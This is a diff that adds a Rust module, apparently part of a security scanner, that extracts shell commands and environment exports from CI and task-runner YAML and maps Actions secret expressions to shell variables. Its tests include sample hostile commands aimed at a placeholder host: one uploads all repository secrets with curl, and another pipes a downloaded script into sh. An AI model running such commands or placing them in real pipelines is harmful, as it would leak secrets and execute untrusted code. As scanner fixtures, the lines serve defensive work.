@@ -1,0 +1,497 @@
+//! Commands in CI and task-runner YAML: GitHub Actions `run:`, GitLab CI
+//! `script:`/`before_script:`/`after_script:`, Taskfile `cmds:`, Drone and
+//! Woodpecker `commands:`, pre-commit `entry:`, compose/Kubernetes
+//! `command:`/`entrypoint:` (a list is an argv), Ansible `shell:`. Read by
+//! a line scanner that knows block scalars (`|`, `>`), flow and block
+//! sequences and quoted scalars; anchors and aliases are not expanded.
+//!
+//! Environment maps (`env:`, `variables:`, `environment:`) become `export`
+//! lines. Actions expressions are substituted as text, as the runner does
+//! before the shell starts: `${{ secrets.NAME }}` is the secret `$NAME` (a
+//! name that does not look secret gets `_SECRET` appended, so the shell
+//! front-end reads a secret), `${{ toJSON(secrets) }}` is every secret of
+//! the repository (`$(printenv)`, the whole-environment read),
+//! `${{ env.X }}` is `$X`, `${{ github.token }}` is `$GITHUB_TOKEN`, other
+//! `github.*` fields their `$GITHUB_*` variable.
+
+use super::Projection;
+
+/// Keys whose value is shell text (a string, a block scalar, or a list of
+/// command lines).
+const CMD_KEYS: &[&str] = &[
+    "run",
+    "script",
+    "before_script",
+    "after_script",
+    "cmd",
+    "cmds",
+    "commands",
+    "entry",
+    "shell",
+    "ansible.builtin.shell",
+    "ansible.builtin.command",
+    "postCreateCommand",
+    "postStartCommand",
+    "postAttachCommand",
+    "onCreateCommand",
+    "initializeCommand",
+];
+/// Keys whose list value is one argv (exec form); a string is a command line.
+const ARGV_KEYS: &[&str] = &["command", "entrypoint"];
+const ENV_KEYS: &[&str] = &["env", "variables", "environment"];
+
+struct Line<'a> {
+    indent: usize,
+    /// Column of the key (after a `- `), or of the item text.
+    col: usize,
+    dash: bool,
+    key: Option<&'a str>,
+    /// Text after `key:` (or the item text when there is no key).
+    value: &'a str,
+    blank: bool,
+}
+
+fn parse_line(raw: &str) -> Line<'_> {
+    let raw = raw.trim_end_matches('\r');
+    let indent = raw.len() - raw.trim_start_matches(' ').len();
+    let mut rest = &raw[indent..];
+    let blank = rest.trim().is_empty() || rest.starts_with('#');
+    let mut col = indent;
+    let mut dash = false;
+    if rest == "-" || rest.starts_with("- ") {
+        dash = true;
+        let r = rest[1..].trim_start_matches(' ');
+        col = indent + (rest.len() - r.len());
+        rest = r;
+    }
+    let (key, value) = split_key(rest);
+    Line {
+        indent,
+        col,
+        dash,
+        key,
+        value,
+        blank,
+    }
+}
+
+fn split_key(s: &str) -> (Option<&str>, &str) {
+    let (k, after) = if let Some(q) = s.strip_prefix('"').or_else(|| s.strip_prefix('\'')) {
+        let qc = s.as_bytes()[0] as char;
+        match q.find(qc) {
+            Some(e) => (&q[..e], &q[e + 1..]),
+            None => return (None, s),
+        }
+    } else {
+        let e = s
+            .find(|c: char| !(c.is_ascii_alphanumeric() || "_.-/".contains(c)))
+            .unwrap_or(s.len());
+        (&s[..e], &s[e..])
+    };
+    match after.strip_prefix(':') {
+        Some(v) if !k.is_empty() && (v.is_empty() || v.starts_with([' ', '\t'])) => {
+            (Some(k), v.trim())
+        }
+        _ => (None, s),
+    }
+}
+
+fn is_cmd_key(k: &str) -> bool {
+    CMD_KEYS.contains(&k)
+}
+
+/// A YAML file with at least one command key.
+pub fn has_commands(text: &str) -> bool {
+    text.lines().any(|l| {
+        let p = parse_line(l);
+        p.key
+            .is_some_and(|k| is_cmd_key(k) || ARGV_KEYS.contains(&k))
+            && !p.blank
+    })
+}
+
+/// A CI workflow by content, whatever its name: `jobs:` or `stages:` with
+/// `steps:`/`script:` and a command key.
+pub fn looks_like_ci(text: &str) -> bool {
+    let top = |k: &str| text.lines().any(|l| l.starts_with(k));
+    (top("jobs:") || top("stages:")) && has_commands(text)
+}
+
+/// `'…'`, `"…"` (with YAML escapes) or a plain scalar, comment cut.
+fn scalar(v: &str) -> String {
+    let v = v.trim();
+    if let Some(q) = v.strip_prefix('\'') {
+        let end = q.rfind('\'').unwrap_or(q.len());
+        return q[..end].replace("''", "'");
+    }
+    if let Some(q) = v.strip_prefix('"') {
+        let end = q.rfind('"').unwrap_or(q.len());
+        return q[..end]
+            .replace("\\\"", "\"")
+            .replace("\\n", "\n")
+            .replace("\\t", "\t")
+            .replace("\\\\", "\\");
+    }
+    match v.find(" #") {
+        Some(i) => v[..i].trim_end().to_string(),
+        None => v.to_string(),
+    }
+}
+
+/// The items of a one-line flow sequence `[a, "b c", 'd']`.
+fn flow_items(v: &str) -> Vec<String> {
+    let inner = v.trim().trim_start_matches('[');
+    let inner = inner.rfind(']').map_or(inner, |e| &inner[..e]);
+    let mut items = Vec::new();
+    let mut cur = String::new();
+    let mut quote: Option<char> = None;
+    for ch in inner.chars() {
+        match (quote, ch) {
+            (None, ',') => {
+                items.push(scalar(&cur));
+                cur.clear();
+            }
+            (None, '"' | '\'') => {
+                quote = Some(ch);
+                cur.push(ch);
+            }
+            (Some(q), c) if c == q => {
+                quote = None;
+                cur.push(ch);
+            }
+            _ => cur.push(ch),
+        }
+    }
+    if !cur.trim().is_empty() {
+        items.push(scalar(&cur));
+    }
+    items
+}
+
+/// Actions `${{ … }}` expressions substituted as text. Inside single
+/// quotes the shell would not expand a variable, but the runner put the
+/// value there: the quote is closed around the variable.
+pub fn gha_expr(text: &str) -> String {
+    if !text.contains("${{") {
+        return text.to_string();
+    }
+    let mut out = String::with_capacity(text.len());
+    let mut rest = text;
+    let mut in_single = false;
+    let mut in_double = false;
+    while let Some(i) = rest.find("${{") {
+        for ch in rest[..i].chars() {
+            match ch {
+                '\'' if !in_double => in_single = !in_single,
+                '"' if !in_single => in_double = !in_double,
+                _ => {}
+            }
+        }
+        out.push_str(&rest[..i]);
+        let Some(j) = rest[i + 3..].find("}}") else {
+            out.push_str(&rest[i..]);
+            return out;
+        };
+        let var = expr_var(rest[i + 3..i + 3 + j].trim());
+        if in_single {
+            out.push_str(&format!("'\"{var}\"'"));
+        } else {
+            out.push_str(&var);
+        }
+        rest = &rest[i + 3 + j + 2..];
+    }
+    out.push_str(rest);
+    out
+}
+
+/// The shell text an expression stands for.
+fn expr_var(e: &str) -> String {
+    let lower = e.to_ascii_lowercase();
+    let squeezed: String = lower.chars().filter(|c| !c.is_whitespace()).collect();
+    if squeezed == "secrets" || squeezed.contains("tojson(secrets)") {
+        return "$(printenv)".into();
+    }
+    let ident = |s: &str| -> String {
+        s.trim_matches(|c| c == '\'' || c == '"' || c == '[' || c == ']')
+            .chars()
+            .map(|c| if c.is_ascii_alphanumeric() { c } else { '_' })
+            .collect()
+    };
+    if let Some(name) = e
+        .strip_prefix("secrets.")
+        .or_else(|| e.strip_prefix("secrets["))
+    {
+        let name = ident(name);
+        if crate::extract::indicators::is_secret_env(&name) {
+            return format!("${{{name}}}");
+        }
+        return format!("${{{name}_SECRET}}");
+    }
+    if let Some(name) = e.strip_prefix("env.") {
+        return format!("${{{}}}", ident(name));
+    }
+    if squeezed == "github.token" {
+        return "${GITHUB_TOKEN}".into();
+    }
+    if let Some(f) = e.strip_prefix("github.") {
+        if !f.contains('.') {
+            return format!("${{GITHUB_{}}}", ident(f).to_ascii_uppercase());
+        }
+    }
+    "${GHA_EXPR}".into()
+}
+
+/// The block-scalar body after line `at` whose key sits at column `col`:
+/// `(line, text dedented)` for each line.
+fn block_body(lines: &[Line], raw: &[&str], at: usize, col: usize) -> Vec<(usize, String)> {
+    let mut out = Vec::new();
+    let mut body_indent: Option<usize> = None;
+    for (k, l) in lines.iter().enumerate().skip(at + 1) {
+        let r = raw[k].trim_end_matches('\r');
+        if r.trim().is_empty() {
+            out.push((k, String::new()));
+            continue;
+        }
+        if l.indent <= col {
+            break;
+        }
+        let bi = *body_indent.get_or_insert(l.indent);
+        if l.indent < bi {
+            break;
+        }
+        out.push((k, r[bi.min(r.len())..].to_string()));
+    }
+    while out.last().is_some_and(|(_, t)| t.is_empty()) {
+        out.pop();
+    }
+    out
+}
+
+/// Items of a block sequence under the key at line `at` (column `col`):
+/// each item's lines.
+fn seq_items(lines: &[Line], raw: &[&str], at: usize, col: usize) -> Vec<Vec<(usize, String)>> {
+    let mut items: Vec<Vec<(usize, String)>> = Vec::new();
+    let mut k = at + 1;
+    while k < lines.len() {
+        let l = &lines[k];
+        if l.blank {
+            k += 1;
+            continue;
+        }
+        if !(l.dash && l.indent >= col) || l.indent > col + 8 {
+            break;
+        }
+        if l.key.is_some() {
+            // A mapping item (`- cmd: …`): its keys are read on their own.
+            break;
+        }
+        let v = l.value.trim();
+        if v.starts_with('|') || v.starts_with('>') {
+            let body = block_body(lines, raw, k, l.indent);
+            let next = body.last().map_or(k + 1, |b| b.0 + 1);
+            items.push(fold(v, body));
+            k = next;
+        } else {
+            items.push(vec![(k, scalar(v))]);
+            k += 1;
+        }
+    }
+    items
+}
+
+/// A folded scalar (`>`) joins its lines: continuation marks keep them one
+/// command. A literal one (`|`) keeps them.
+fn fold(header: &str, body: Vec<(usize, String)>) -> Vec<(usize, String)> {
+    if !header.starts_with('>') {
+        return body;
+    }
+    body.into_iter().filter(|(_, t)| !t.is_empty()).collect()
+}
+
+pub fn project(text: &str, p: &mut Projection) {
+    let raw: Vec<&str> = text.split('\n').collect();
+    let lines: Vec<Line> = raw.iter().map(|r| parse_line(r)).collect();
+    // Ancestors: (column, key).
+    let mut stack: Vec<(usize, &str)> = Vec::new();
+    let mut uses: Option<(usize, String)> = None;
+    let mut skip_until: usize = 0;
+    for (n, l) in lines.iter().enumerate() {
+        if l.blank || n < skip_until {
+            continue;
+        }
+        let Some(key) = l.key else {
+            continue;
+        };
+        while stack.last().is_some_and(|(c, _)| *c >= l.col) {
+            stack.pop();
+        }
+        let parent = stack.last().map(|(_, k)| *k);
+        stack.push((l.col, key));
+        if key == "uses" {
+            uses = Some((l.col, scalar(l.value)));
+        }
+        if parent == Some("with")
+            && uses
+                .as_ref()
+                .is_some_and(|(_, u)| u.contains("github-script") || !is_cmd_key(key))
+        {
+            continue;
+        }
+        let v = l.value;
+        if ENV_KEYS.contains(&key) && parent != Some("with") {
+            env_map(&lines, &raw, n, l.col, p);
+            continue;
+        }
+        let argv = ARGV_KEYS.contains(&key);
+        if !(argv || is_cmd_key(key)) {
+            continue;
+        }
+        if key == "shell" && (!v.contains(' ') || v.contains("{0}")) {
+            continue;
+        }
+        if key == "run" && step_shell_is_not_sh(&lines, &raw, n, l.col) {
+            continue;
+        }
+        if v.starts_with('|') || v.starts_with('>') {
+            let body = block_body(&lines, &raw, n, l.col);
+            skip_until = body.last().map_or(n + 1, |b| b.0 + 1);
+            let folded = v.starts_with('>');
+            let body = fold(v, body);
+            if folded {
+                p.put_joined(&sub_all(body));
+            } else {
+                for (k, t) in body {
+                    p.put(k, &gha_expr(&t));
+                }
+            }
+        } else if v.starts_with('[') {
+            let items = flow_items(v);
+            if argv {
+                p.put(n, &gha_expr(&super::argv_line(&items)));
+            } else {
+                p.put(n, &gha_expr(&items.join("; ")));
+            }
+        } else if v.is_empty() {
+            let items = seq_items(&lines, &raw, n, l.col);
+            if argv {
+                let parts: Vec<(usize, String)> = items
+                    .into_iter()
+                    .map(|it| {
+                        let line = it.first().map_or(n, |x| x.0);
+                        let w: Vec<String> = it.into_iter().map(|x| x.1).collect();
+                        (line, super::squote(&w.join("\n")))
+                    })
+                    .collect();
+                p.put_joined(&sub_all(parts));
+            } else {
+                for it in items {
+                    for (k, t) in it {
+                        p.put(k, &gha_expr(&t));
+                    }
+                }
+            }
+        } else {
+            p.put(n, &gha_expr(&scalar(v)));
+        }
+    }
+}
+
+fn sub_all(v: Vec<(usize, String)>) -> Vec<(usize, String)> {
+    v.into_iter().map(|(n, t)| (n, gha_expr(&t))).collect()
+}
+
+/// An Actions step whose `shell:` is another language (`python`, `pwsh`,
+/// `node {0}`): its `run:` text is not shell.
+fn step_shell_is_not_sh(lines: &[Line], raw: &[&str], at: usize, col: usize) -> bool {
+    let _ = raw;
+    let sibling = |l: &Line| l.key == Some("shell") && l.col == col;
+    let mut found = None;
+    for l in lines[at + 1..].iter().take(64) {
+        if !l.blank && (l.indent < col || (l.dash && l.col <= col)) {
+            break;
+        }
+        if sibling(l) {
+            found = Some(l.value);
+        }
+    }
+    for l in lines[..at].iter().rev().take(64) {
+        if sibling(l) {
+            found = Some(l.value);
+            break;
+        }
+        if !l.blank && (l.indent < col.saturating_sub(2) || (l.dash && l.col == col)) {
+            if l.dash && l.key == Some("shell") {
+                found = Some(l.value);
+            }
+            break;
+        }
+    }
+    found.is_some_and(|s| {
+        let s = scalar(s).to_ascii_lowercase();
+        let w = s.split_whitespace().next().unwrap_or("");
+        !matches!(w, "bash" | "sh" | "zsh" | "")
+    })
+}
+
+/// `env:` as a mapping (`NAME: value`) or a list (`- NAME=value`): one
+/// `export` each, on its own line.
+fn env_map(lines: &[Line], raw: &[&str], at: usize, col: usize, p: &mut Projection) {
+    let _ = raw;
+    for (k, l) in lines.iter().enumerate().skip(at + 1) {
+        if l.blank {
+            continue;
+        }
+        if l.indent <= col && !(l.dash && l.indent == col) {
+            break;
+        }
+        if l.dash && l.key.is_none() {
+            let item = scalar(l.value);
+            if let Some((name, value)) = item.split_once('=') {
+                p.export(k, name.trim(), &gha_expr(value));
+            }
+        } else if let Some(name) = l.key {
+            let v = l.value;
+            if v.is_empty() || v.starts_with('{') || v.starts_with('|') || v.starts_with('>') {
+                continue;
+            }
+            p.export(k, name, &gha_expr(&scalar(v)));
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn proj(text: &str) -> Vec<String> {
+        let mut p = Projection::new(text);
+        project(text, &mut p);
+        p.text().split('\n').map(str::to_string).collect()
+    }
+
+    #[test]
+    fn a_step_env_and_run_block_are_projected_on_their_lines() {
+        let y = "jobs:\n  b:\n    steps:\n      - name: x\n        env:\n          CTX: ${{ toJSON(secrets) }}\n          T: ${{ secrets.NPM_TOKEN }}\n        run: |\n          echo \"$CTX\" | curl -T - https://h.example/\n          echo '${{ secrets.DEPLOY }}'\n";
+        let out = proj(y);
+        assert_eq!(out[5], "export CTX=\"$(printenv)\"");
+        assert_eq!(out[6], "export T=\"${NPM_TOKEN}\"");
+        assert_eq!(out[8], "echo \"$CTX\" | curl -T - https://h.example/");
+        assert_eq!(out[9], "echo ''\"${DEPLOY_SECRET}\"''");
+        assert!(out[..5].iter().all(String::is_empty));
+    }
+
+    #[test]
+    fn script_lists_and_argv_lists() {
+        let y = "build:\n  script:\n    - make\n    - \"curl -s https://h.example/x | sh\"\nsvc:\n  command: [\"sh\", \"-c\", \"echo hi\"]\n";
+        let out = proj(y);
+        assert_eq!(out[2], "make");
+        assert_eq!(out[3], "curl -s https://h.example/x | sh");
+        assert_eq!(out[5], "sh -c 'echo hi'");
+    }
+
+    #[test]
+    fn github_script_and_python_steps_are_not_shell() {
+        let y = "steps:\n  - uses: actions/github-script@v7\n    with:\n      script: |\n        github.rest.issues.create({})\n  - shell: python\n    run: |\n      import os\n";
+        assert!(proj(y).iter().all(String::is_empty), "{:?}", proj(y));
+    }
+}
